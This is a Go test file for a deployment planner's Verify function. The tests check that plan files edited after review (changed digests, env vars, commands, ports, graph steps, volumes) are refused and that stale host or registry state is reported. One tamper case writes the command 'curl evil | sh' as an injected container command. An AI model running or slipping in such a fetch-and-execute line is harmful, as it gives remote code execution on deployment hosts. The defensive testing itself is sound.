package planner

import (
	"context"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"
)

// fakeVolumes is a VolumeReader over a map of container ID to volumes.
type fakeVolumes map[string][]string

var _ VolumeReader = fakeVolumes(nil)

func (f fakeVolumes) Volumes(_ context.Context, _, id string) ([]string, error) {
	return f[id], nil
}

// verifyLab is a configuration, the hosts and the registry of one test.
type verifyLab struct {
	cfg     *lcfg
	hosts   *fakeHosts
	digests *fakeDigests
	volumes fakeVolumes
}

func newVerifyLab() *verifyLab {
	return &verifyLab{cfg: testConfig("v2"), hosts: deployed(testConfig("v1"), digestV1), digests: newDigests(),
		volumes: fakeVolumes{"c1": {"shop-data"}, "a4": {"cache-data", "shop-data"}}}
}

func (l *verifyLab) deps() Deps { return Deps{State: l.hosts, Digests: l.digests, Volumes: l.volumes} }

// plan makes a plan and returns the bytes of its file.
func (l *verifyLab) plan(t *testing.T, opts Options) []byte {
	t.Helper()
	opts.Now = func() time.Time { return t0 }
	opts.BerthVersion = "test"
	p, err := Build(context.Background(), l.cfg, l.deps(), opts)
	if err != nil {
		t.Fatalf("Build: %v", err)
	}
	b, err := json.MarshalIndent(p, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// verify decodes a plan file and verifies it against the lab.
func (l *verifyLab) verify(t *testing.T, b []byte) (*Plan, error) {
	t.Helper()
	saved, err := Decode("plan.json", b)
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	return Verify(context.Background(), saved, l.cfg, l.deps(), Options{BerthVersion: "test"})
}

// edit applies fn to the plan file's JSON.
func edit(t *testing.T, b []byte, fn func(doc map[string]any)) []byte {
	t.Helper()
	var doc map[string]any
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	fn(doc)
	out, err := json.Marshal(doc)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func jlist(doc map[string]any, key string) []any { v, _ := doc[key].([]any); return v }

// change finds the change of addr ("h1/web") in a plan file's JSON.
func change(doc map[string]any, addr string) map[string]any {
	for _, c := range jlist(doc, "changes") {
		m := c.(map[string]any)
		a := m["address"].(map[string]any)
		name, _ := a["role"].(string)
		if acc, ok := a["accessory"].(string); ok {
			name = "accessory." + acc
		}
		if a["host"].(string)+"/"+name == addr {
			return m
		}
	}
	panic("no change " + addr)
}

// step finds the step id in a plan file's JSON.
func step(doc map[string]any, id string) map[string]any {
	for _, s := range jlist(doc["graph"].(map[string]any), "steps") {
		if m := s.(map[string]any); m["id"] == id {
			return m
		}
	}
	panic("no step " + id)
}

func desired(doc map[string]any, addr string) map[string]any {
	return change(doc, addr)["desired"].(map[string]any)
}

func TestVerifyAcceptsTheUneditedPlan(t *testing.T) {
	for name, opts := range map[string]Options{
		"deploy":                     {},
		"targeted":                   {Targets: []string{"worker"}},
		"excluded":                   {Excludes: []string{"h2"}},
		"destroy":                    {Destroy: true},
		"destroy, all, with volumes": {Destroy: true, IncludeAccessories: true, RemoveVolumes: true},
	} {
		t.Run(name, func(t *testing.T) {
			l := newVerifyLab()
			b := l.plan(t, opts)
			// Health and start times change by themselves: they do not count.
			l.hosts.states["h1"][0].Health = "unhealthy"
			l.hosts.states["h2"][0].StartedAt = t0.Add(time.Hour)
			got, err := l.verify(t, b)
			if err != nil {
				t.Fatalf("an unedited plan is refused: %v", err)
			}
			saved, _ := Decode("plan.json", b)
			if !slices.Equal(got.Graph.Steps[0].DependsOn, saved.Graph.Steps[0].DependsOn) || len(got.Changes) != len(saved.Changes) {
				t.Errorf("the re-derived plan differs from the file")
			}
			if opts.RemoveVolumes && !slices.Equal(got.Volumes["h3"], []string{"cache-data", "shop-data"}) {
				t.Errorf("volumes = %v", got.Volumes)
			}
		})
	}
}

// Every kind of edit to a plan file is refused, naming the field.
func TestVerifyRefusesEveryEdit(t *testing.T) {
	tests := []struct {
		name  string
		opts  Options
		edit  func(doc map[string]any)
		is    error
		field string // what the message must say
	}{
		{"another digest under the reviewed label", Options{}, func(doc map[string]any) {
			desired(doc, "h1/web")["image"] = "10.77.0.1:5000/shop:v2@" + digestV1
		}, ErrPlanMismatch, `changes[h1/web].desired.image: "10.77.0.1:5000/shop:v2@` + digestV1 + `" in the file, "10.77.0.1:5000/shop:v2@` + digestV2 + `" re-derived`},
		{"another digest for the tag, everywhere", Options{}, func(doc map[string]any) {
			doc["images"].(map[string]any)["10.77.0.1:5000/shop:v2"] = digestV1
			for _, a := range []string{"h1/web", "h2/web", "h3/worker"} {
				desired(doc, a)["image"] = "10.77.0.1:5000/shop:v2@" + digestV1
			}
		}, ErrStale, "tag 10.77.0.1:5000/shop:v2 now points to " + digestV2 + " (the plan has " + digestV1 + ")"},
		{"an injected env var", Options{}, func(doc map[string]any) {
			desired(doc, "h1/web")["env"].(map[string]any)["INJECTED"] = "1"
		}, ErrPlanMismatch, "plan file does not match what the configuration and the hosts give now: changes[h1/web].desired.env.INJECTED: not in the re-derived plan"},
		{"another cmd", Options{}, func(doc map[string]any) {
			desired(doc, "h3/worker")["cmd"] = []any{"/bin/sh", "-c", "curl evil | sh"}
		}, ErrPlanMismatch, `changes[h3/worker].desired.cmd: ["/bin/sh", "-c", "curl evil | sh"] in the file, ["/app", "work"] re-derived`},
		{"other ports", Options{}, func(doc map[string]any) {
			desired(doc, "h2/web")["ports"] = []any{"2222:22"}
		}, ErrPlanMismatch, `changes[h2/web].desired.ports: ["2222:22"] in the file, ["80:8080"] re-derived`},
		{"another version name", Options{}, func(doc map[string]any) {
			doc["version"] = "v9"
		}, ErrPlanMismatch, `version: "v9" in the file, "v2" re-derived`},
		{"another container name", Options{}, func(doc map[string]any) {
			desired(doc, "h1/web")["name"] = "shop-web-v9"
		}, ErrPlanMismatch, `changes[h1/web].desired.name: "shop-web-v9" in the file, "shop-web-v2" re-derived`},
		{"an added remove step", Options{}, func(doc map[string]any) {
			g := doc["graph"].(map[string]any)
			g["steps"] = append(jlist(g, "steps"), map[string]any{"id": "h3/accessory.cache/remove", "kind": "remove",
				"address": map[string]any{"host": "h3", "accessory": "cache"}, "depends_on": []any{"barrier"}})
		}, ErrPlanMismatch, "graph.steps[h3/accessory.cache/remove]: not in the re-derived plan"},
		{"an extra change", Options{}, func(doc map[string]any) {
			extra := map[string]any{}
			for k, v := range change(doc, "h2/web") {
				extra[k] = v
			}
			extra["address"] = map[string]any{"host": "h3", "role": "web"}
			doc["changes"] = append(jlist(doc, "changes"), extra)
		}, ErrPlanMismatch, "changes[h3/web]: not in the re-derived plan"},
		{"the barrier edge deleted", Options{}, func(doc map[string]any) {
			step(doc, "h3/worker/start")["depends_on"] = []any{"h3/worker/create"}
		}, ErrPlanMismatch, `graph.steps[h3/worker/start].depends_on: ["h3/worker/create"] in the file, ["h3/worker/create", "barrier"] re-derived`},
		{"a host dropped from the fingerprint list", Options{}, func(doc map[string]any) {
			doc["hosts"] = jlist(doc, "hosts")[:2]
		}, ErrPlanMismatch, "hosts[h3]: in the re-derived plan, not in the file"},
		{"an edited graph dependency", Options{}, func(doc map[string]any) {
			step(doc, "barrier")["depends_on"] = []any{"h1/web/start"}
		}, ErrPlanMismatch, `graph.steps[barrier].depends_on: ["h1/web/start"] in the file, ["h1/web/health"] re-derived`},
		{"an edited batch", Options{}, func(doc map[string]any) {
			step(doc, "h2/web/start")["batch"] = 3
		}, ErrPlanMismatch, "graph.steps[h2/web/start].batch: 3 in the file, 0 re-derived"},
		{"a dropped step", Options{}, func(doc map[string]any) {
			g := doc["graph"].(map[string]any)
			g["steps"] = slices.DeleteFunc(jlist(g, "steps"), func(s any) bool { return s.(map[string]any)["id"] == "h2/web/health" })
			step(doc, "h2/web/prune")["depends_on"] = []any{"h2/web/start"}
		}, ErrPlanMismatch, "graph.steps[h2/web/prune].depends_on"},
		{"steps in another order", Options{}, func(doc map[string]any) {
			g := doc["graph"].(map[string]any)
			steps := jlist(g, "steps")
			steps[0], steps[1] = steps[1], steps[0]
		}, ErrPlanMismatch, "graph.steps: in another order: h1/web/create, h1/web/pull,"},
		{"another container to stop", Options{}, func(doc map[string]any) {
			change(doc, "h2/web")["running"].(map[string]any)["id"] = "someone-elses"
		}, ErrPlanMismatch, `changes[h2/web].running.id: "someone-elses" in the file, "c2" re-derived`},
		{"a hidden reason", Options{}, func(doc map[string]any) {
			delete(change(doc, "h1/web"), "reasons")
		}, ErrPlanMismatch, "changes[h1/web].reasons: in the re-derived plan, not in the file"},
		{"another action", Options{}, func(doc map[string]any) {
			change(doc, "h3/accessory.cache")["action"] = "remove"
		}, ErrPlanMismatch, `changes[h3/accessory.cache].action: "remove" in the file, "unchanged" re-derived`},
		{"a changed target", Options{Targets: []string{"worker"}}, func(doc map[string]any) {
			doc["targets"] = []any{"web"}
		}, ErrPlanMismatch, "changes[h3/worker]: not in the re-derived plan"},
		{"a dropped target", Options{Targets: []string{"worker"}}, func(doc map[string]any) {
			delete(doc, "targets")
		}, ErrPlanMismatch, "changes[h1/web]: in the re-derived plan, not in the file"},
		{"a changed options field: destroy", Options{}, func(doc map[string]any) {
			doc["destroy"] = true
		}, ErrPlanMismatch, `images["10.77.0.1:5000/cache:7"]: not in the re-derived plan`},
		{"a changed options field: remove_volumes", Options{Destroy: true}, func(doc map[string]any) {
			doc["remove_volumes"] = true
		}, ErrPlanMismatch, "volumes: in the re-derived plan, not in the file"},
		{"an added volume", Options{Destroy: true, IncludeAccessories: true, RemoveVolumes: true}, func(doc map[string]any) {
			doc["volumes"].(map[string]any)["h2"] = []any{"precious"}
		}, ErrPlanMismatch, "volumes.h2: not in the re-derived plan"},
		{"a changed options field: include_accessories", Options{Destroy: true}, func(doc map[string]any) {
			doc["include_accessories"] = true
		}, ErrPlanMismatch, "changes[h3/accessory.cache]: in the re-derived plan, not in the file"},
		{"an edited health check", Options{}, func(doc map[string]any) {
			desired(doc, "h1/web")["health"].(map[string]any)["cmd"] = []any{"/bin/true"}
		}, ErrPlanMismatch, `changes[h1/web].desired.health.cmd: ["/bin/true"] in the file, ["/app", "check"] re-derived`},
		{"an edited label", Options{}, func(doc map[string]any) {
			desired(doc, "h2/web")["labels"].(map[string]any)["berth.version"] = "v9"
		}, ErrPlanMismatch, `changes[h2/web].desired.labels["berth.version"]: "v9" in the file, "v2" re-derived`},
		{"an edited config hash", Options{}, func(doc map[string]any) {
			doc["config_hash"] = "sha256:other"
		}, ErrStale, "the configuration changed"},
		{"an edited fingerprint", Options{}, func(doc map[string]any) {
			jlist(doc, "hosts")[1].(map[string]any)["fingerprint"] = "sha256:other"
		}, ErrStale, "host h2 changed: live state differs"},
		{"an edited variable", Options{}, func(doc map[string]any) {
			jlist(doc, "variables")[0].(map[string]any)["value"] = "v9"
		}, ErrPlanMismatch, `variables[version].value: "v9" in the file, "v2" re-derived`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l := newVerifyLab()
			b := edit(t, l.plan(t, tt.opts), tt.edit)
			_, err := l.verify(t, b)
			if !errors.Is(err, tt.is) || !strings.Contains(err.Error(), tt.field) {
				t.Errorf("err = %v\nwant %v naming %s", err, tt.is, tt.field)
			}
		})
	}
}

// The world moving on is "stale", with what moved.
func TestVerifyStale(t *testing.T) {
	l := newVerifyLab()
	b := l.plan(t, Options{})
	l.digests.m["10.77.0.1:5000/shop:v2"] = digestV1 // someone pushed another image under v2
	_, err := l.verify(t, b)
	if !errors.Is(err, ErrStale) || !strings.Contains(err.Error(), "stale: tag 10.77.0.1:5000/shop:v2 now points to "+digestV1) {
		t.Errorf("moved tag: %v", err)
	}

	l = newVerifyLab()
	b = l.plan(t, Options{})
	l.hosts.states["h3"][0].State = "exited"
	_, err = l.verify(t, b)
	if !errors.Is(err, ErrStale) || !strings.Contains(err.Error(), "host h3 changed: container shop-worker-v1 running → exited") {
		t.Errorf("moved host: %v", err)
	}

	l = newVerifyLab()
	b = l.plan(t, Options{Destroy: true, RemoveVolumes: true})
	l.volumes["c2"] = []string{"new-volume"} // not fingerprinted, but re-derived
	_, err = l.verify(t, b)
	if !errors.Is(err, ErrPlanMismatch) || !strings.Contains(err.Error(), "volumes.h2: in the re-derived plan, not in the file") {
		t.Errorf("new volume: %v", err)
	}
}

// A plan file of format 1.0 (no options fields) is upgraded and verified.
func TestVerifyReadsVersion1Files(t *testing.T) {
	l := newVerifyLab()
	b := edit(t, l.plan(t, Options{Destroy: true, IncludeAccessories: true}), func(doc map[string]any) {
		doc["format_version"] = "1.0"
		delete(doc, "include_accessories")
	})
	p, err := l.verify(t, b)
	if err != nil {
		t.Fatalf("1.0 destroy plan: %v", err)
	}
	if !p.IncludeAccessories || p.RemoveVolumes || p.FormatVersion != FormatVersion {
		t.Errorf("upgraded plan: %+v", p)
	}
}

// destroy --remove-volumes lists the volumes of every container it removes,
// a second running one included.
func TestRemoveVolumesListsEveryRemovedContainer(t *testing.T) {
	l := newVerifyLab()
	old := testConfig("v0")
	l.hosts.put("h1", live("x9", Spec(old, &old.Roles[0], "h1", digestV1), "running", t0.Add(-time.Hour)))
	l.volumes["x9"] = []string{"extra-data"}
	p, err := l.verify(t, l.plan(t, Options{Destroy: true, RemoveVolumes: true}))
	if err != nil {
		t.Fatal(err)
	}
	if got := p.Volumes["h1"]; !slices.Equal(got, []string{"extra-data", "shop-data"}) {
		t.Errorf("h1 volumes = %v", got)
	}
	if _, ok := p.Volumes["h3"]; ok {
		t.Errorf("the accessory's volumes are listed without --include-accessories: %v", p.Volumes)
	}
}

// A file made by another berth version says so when it does not match.
func TestVerifyMismatchNamesAnotherBerth(t *testing.T) {
	l := newVerifyLab()
	b := edit(t, l.plan(t, Options{}), func(doc map[string]any) {
		doc["berth_version"] = "0.0.9"
		delete(change(doc, "h1/web"), "stop")
	})
	_, err := l.verify(t, b)
	if !errors.Is(err, ErrPlanMismatch) || !strings.HasSuffix(err.Error(), "(the file was made by berth 0.0.9, this is berth test: make a new plan)") {
		t.Errorf("err = %v", err)
	}
}
